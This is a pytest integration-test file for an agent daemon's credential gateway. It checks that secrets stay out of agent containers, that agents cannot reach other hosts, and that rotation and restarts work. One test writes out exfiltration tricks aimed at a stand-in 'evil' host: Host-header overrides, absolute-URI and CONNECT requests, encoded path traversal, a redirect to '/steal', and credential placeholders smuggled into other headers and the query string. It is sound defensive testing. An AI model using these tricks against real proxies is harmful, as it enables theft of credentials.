"""Zone 2: secrets stay out of agents, go only to their upstream, and agents reach nothing else."""

from __future__ import annotations

import contextlib
import json
import shutil
import socket
import threading
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import docker
import pytest

import fleetd
from tests.integration.harness import AGENT_IMAGE, Daemon, agent_address, wait_for
from tests.integration.zone2_fixtures import AGENT_HTTP, Bench, wait_until

CHAT = json.dumps({"model": "gpt-4o", "messages": [{"role": "user", "content": "hello"}]})


@pytest.fixture
def bench(engine: docker.DockerClient) -> Iterator[Bench]:
    b = Bench(engine)
    try:
        yield b
    finally:
        b.close()


def test_secret_reaches_its_upstream_and_nowhere_else(bench: Bench, engine: docker.DockerClient) -> None:
    script = AGENT_HTTP + f"print('CHAT', *call('POST', '/v1/chat/completions', AUTH, {CHAT!r}))\n" + \
        "print('ENV', json.dumps(dict(os.environ)))\n"
    agent_id, out = bench.run_agent(script)
    assert "CHAT 200" in out and "chat.completion" in out
    assert bench.secret not in out  # not in the agent's env, not echoed back
    seen = bench.sim_requests("llm")
    assert seen[-1]["headers"]["Authorization"] == f"Bearer {bench.secret}"

    # Nowhere in an agent: inspect, env, filesystem.
    live = bench.daemon.spawn("--role", "worker", AGENT_IMAGE, "sleep", "300")
    container = engine.containers.get(bench.daemon.agent(live)["container_id"])
    assert bench.secret not in json.dumps(container.attrs)
    found = container.exec_run(["grep", "-rIls", "--exclude-dir=proc", "--exclude-dir=sys", "--exclude-dir=dev",
                                bench.secret, "/"], user="root")
    # No file names the secret (exit 1: no match; 2: also some unreadable dirs, which are not the agent's either).
    assert found.exit_code in (1, 2) and found.output == b"", found.output
    assert bench.secret not in json.dumps(engine.containers.get(bench.daemon.agent(agent_id)["container_id"]).attrs)

    # Not in zone 2's inspect, env or logs; not in the daemon's log; not in plain text on disk.
    zone2 = engine.containers.get(f"fleetd-{bench.daemon.instance}-zone2")
    assert bench.secret not in json.dumps(zone2.attrs)
    assert bench.secret.encode() not in zone2.logs()
    assert bench.secret not in bench.daemon.log()
    for path in bench.daemon.state_dir.rglob("*"):
        if path.is_file():
            assert bench.secret.encode() not in path.read_bytes(), path
    assert bench.secret not in bench.daemon.cli("cred", "ls", "--json").stdout


def test_exfiltration_tricks_fail(bench: Bench) -> None:
    evil = f"evil-{bench.daemon.instance}:8000"
    bench.set_cred("evilcred", "sk-evil-own-key", "evil")
    bench.daemon.cli("role", "set", "greedy", "--creds", "openai,evilcred")
    script = AGENT_HTTP + f"""
EVIL = {evil!r}
A = "Authorization: Bearer $CRED{{openai}}\\r\\n".encode()
print("host", call("GET", "/v1/models", {{**AUTH, "Host": EVIL}})[0])
print("xfwd", call("GET", "/v1/models", {{**AUTH, "X-Forwarded-Host": EVIL, "Forwarded": "host=" + EVIL}})[0])
print("absolute", raw(b"GET http://" + EVIL.encode() + b"/v1/models HTTP/1.1\\r\\nHost: x\\r\\n" + A + b"\\r\\n"))
print("authority", raw(b"CONNECT " + EVIL.encode() + b" HTTP/1.1\\r\\nHost: x\\r\\n" + A + b"\\r\\n"))
print("slashes", raw(b"GET //" + EVIL.encode() + b"/v1/models HTTP/1.1\\r\\nHost: x\\r\\n" + A + b"\\r\\n"))
print("dots", raw(b"GET /v1/../../x HTTP/1.1\\r\\nHost: x\\r\\n" + A + b"\\r\\n"))
print("encdots", raw(b"GET /v1/%2e%2e/%2e%2e/x HTTP/1.1\\r\\nHost: x\\r\\n" + A + b"\\r\\n"))
print("redirect", call("GET", "/sim/redirect?to=http://" + EVIL + "/steal", AUTH)[0])
print("mixed", call("GET", "/v1/models", {{**AUTH, "X-Other": "$CRED{{evilcred}}"}})[0])
print("query", call("GET", "/v1/models?key=$CRED{{evilcred}}", AUTH)[0])
print("direct", call("GET", "/v1/models", AUTH, host=EVIL)[0])
"""
    _, out = bench.run_agent(script, role="greedy")
    results = dict(line.split(" ", 1) for line in out.strip().splitlines())
    assert results["host"] == "200" and results["xfwd"] == "200"  # served, by the right upstream
    for trick in ("absolute", "authority", "slashes", "dots", "encdots"):
        assert results[trick].startswith("HTTP/1.1 400"), (trick, results[trick])
    assert results["redirect"] == "302"  # handed back, not followed
    assert results["mixed"] == "403" and results["query"] == "403"  # two upstreams in one request
    assert results["direct"] == "0"  # the attacker's host is not reachable at all
    assert bench.secret not in json.dumps(bench.sim_requests("evil"))
    llm = [r for r in bench.sim_requests("llm") if bench.secret in json.dumps(r)]
    assert llm and all("x-forwarded-host" not in {k.lower() for k in r["headers"]} for r in llm)
    assert {r["headers"]["Host"] for r in llm} == {f"llm-{bench.daemon.instance}:8000"}


def test_isolation(bench: Bench, engine: docker.DockerClient) -> None:
    accepted: list[object] = []
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen()
    port = listener.getsockname()[1]

    def accept() -> None:
        with contextlib.suppress(OSError):  # closed at the end of the test: nobody came
            accepted.append(listener.accept())

    threading.Thread(target=accept, daemon=True).start()
    try:
        agents_net = engine.networks.get(f"fleetd-{bench.daemon.instance}-agents")
        host_ip = agents_net.attrs["IPAM"]["Config"][0]["Gateway"]
        other = bench.daemon.spawn(AGENT_IMAGE, "python3", "-m", "http.server", "8000")
        other_ip = agent_address(engine, bench.daemon.instance, other)
        wait_for(lambda: "Serving HTTP" in bench.daemon.logs(other), 20)
        sim_ip = bench.sim_url("llm").removeprefix("http://")
        script = AGENT_HTTP + f"""
print("zone2", call("GET", "/v1/models", AUTH)[0])
print("host", call("GET", "/", host="{host_ip}:{port}")[0])
print("agent", call("GET", "/", host="{other_ip}:8000")[0])
print("upstream", call("GET", "/v1/models", host="{sim_ip}")[0])
"""
        _, out = bench.run_agent(script)
        results = dict(line.split(" ", 1) for line in out.strip().splitlines())
        assert results == {"zone2": "200", "host": "0", "agent": "0", "upstream": "0"}, out
        assert accepted == []  # the host's listener never saw a connection
    finally:
        listener.close()


def test_identity(bench: Bench, engine: docker.DockerClient) -> None:
    bench.daemon.cli("role", "set", "nobody", "--creds", "")
    script = AGENT_HTTP + """
print("own", *call("GET", "/v1/models", AUTH))
print("unknown", *call("GET", "/v1/models", {"Authorization": "Bearer $CRED{nosuch}"}))
print("spoof", call("GET", "/v1/models", {**AUTH, "X-Fleetd-Agent-Id": "someone-else", "X-Real-IP": "1.2.3.4"})[0])
"""
    _, out = bench.run_agent(script, role="nobody")
    lines = dict(line.split(" ", 1) for line in out.strip().splitlines())
    assert lines["own"].startswith("403") and lines["spoof"] == "403"
    assert lines["own"] == lines["unknown"]  # out of scope and unknown look the same
    # A container fleetd did not spawn, on the agents' network, gets 403.
    stranger = engine.containers.run(
        AGENT_IMAGE, ["python3", "-c", AGENT_HTTP.replace('os.environ["FLEETD_GATEWAY_URL"]', '"http://zone2:8080"')
                      + "print('STRANGER', call('GET', '/v1/models', AUTH)[0])"],
        network=f"fleetd-{bench.daemon.instance}-agents", detach=True,
        labels={"fleetd-test": bench.daemon.instance})
    try:
        assert stranger.wait(timeout=60)["StatusCode"] == 0
        assert b"STRANGER 403" in stranger.logs()
    finally:
        stranger.remove(force=True)


def test_rotation_takes_effect_without_restart(bench: Bench, engine: docker.DockerClient) -> None:
    zone2 = engine.containers.get(f"fleetd-{bench.daemon.instance}-zone2")
    script = AGENT_HTTP + f"print('CHAT', call('POST', '/v1/chat/completions', AUTH, {CHAT!r})[0])"
    bench.run_agent(script)
    assert bench.sim_requests("llm")[-1]["headers"]["Authorization"] == f"Bearer {bench.secret}"
    bench.set_cred("openai", "sk-rotated-key", "llm")
    bench.run_agent(script)
    assert bench.sim_requests("llm")[-1]["headers"]["Authorization"] == "Bearer sk-rotated-key"
    zone2.reload()
    assert zone2.attrs["State"]["StartedAt"] == engine.containers.get(zone2.id).attrs["State"]["StartedAt"]
    assert zone2.attrs["RestartCount"] == 0 and zone2.status == "running"
    bench.daemon.cli("cred", "rm", "openai")
    _, out = bench.run_agent(script)
    assert "CHAT 403" in out


def test_zone2_killed_is_back_within_5s_with_registrations(bench: Bench, engine: docker.DockerClient) -> None:
    agent_id = bench.daemon.spawn("--role", "worker", AGENT_IMAGE, "sleep", "600")
    agent = engine.containers.get(bench.daemon.agent(agent_id)["container_id"])
    probe = ["python3", "-c", AGENT_HTTP + "print(call('GET', '/v1/models', AUTH)[0])"]

    def served() -> bool:
        return agent.exec_run(probe, environment={"FLEETD_GATEWAY_URL": "http://zone2:8080"}).output.strip() == b"200"

    assert served()
    old = engine.containers.get(f"fleetd-{bench.daemon.instance}-zone2")
    old.kill(signal="SIGKILL")
    wait_until(served, 30)
    status = bench.daemon.api.call("GET", "/v1/status")["zone2"]
    assert status["healthy"] and status["restarts"] >= 1 and status["agents_registered"] >= 1
    # The daemon's own record of the restart times it: each probe above is a `docker exec`, which a loaded machine
    # makes take seconds of its own.
    events = bench.daemon.events()
    restarted = next(e for e in events if e["type"] == "zone2_restarted")
    ready = next(e for e in events if e["type"] == "zone2_ready" and e["id"] > restarted["id"])
    took = (datetime.fromisoformat(ready["time"]) - datetime.fromisoformat(restarted["time"])).total_seconds()
    assert took < 5, f"zone 2 took {took:.1f}s to serve again"


def test_a_daemon_upgraded_without_an_image_rebuild_says_zone2_is_stale(tmp_path: Path) -> None:
    """The daemon runs a copy of fleetd that differs from the code in the zone 2 image by one line, as after an
    upgrade in place without `fleetd images build`: status, the CLI and an event say so."""
    overlay = tmp_path / "overlay"
    shutil.copytree(Path(fleetd.__file__).resolve().parent, overlay / "fleetd",
                    ignore=shutil.ignore_patterns("__pycache__"))
    (overlay / "fleetd" / "units.py").write_text((overlay / "fleetd" / "units.py").read_text() + "\n# upgraded\n")
    daemon = Daemon(env={"PYTHONPATH": str(overlay)}).start()
    try:
        status = daemon.api.call("GET", "/v1/status")["zone2"]
        assert status["healthy"] is True and status["code_matches"] is False
        assert "image STALE" in daemon.cli("status").stdout
        (event,) = [e for e in daemon.events() if e["type"] == "zone2_code_mismatch"]
        assert "fleetd images build" in event["message"]
    finally:
        daemon.cleanup()
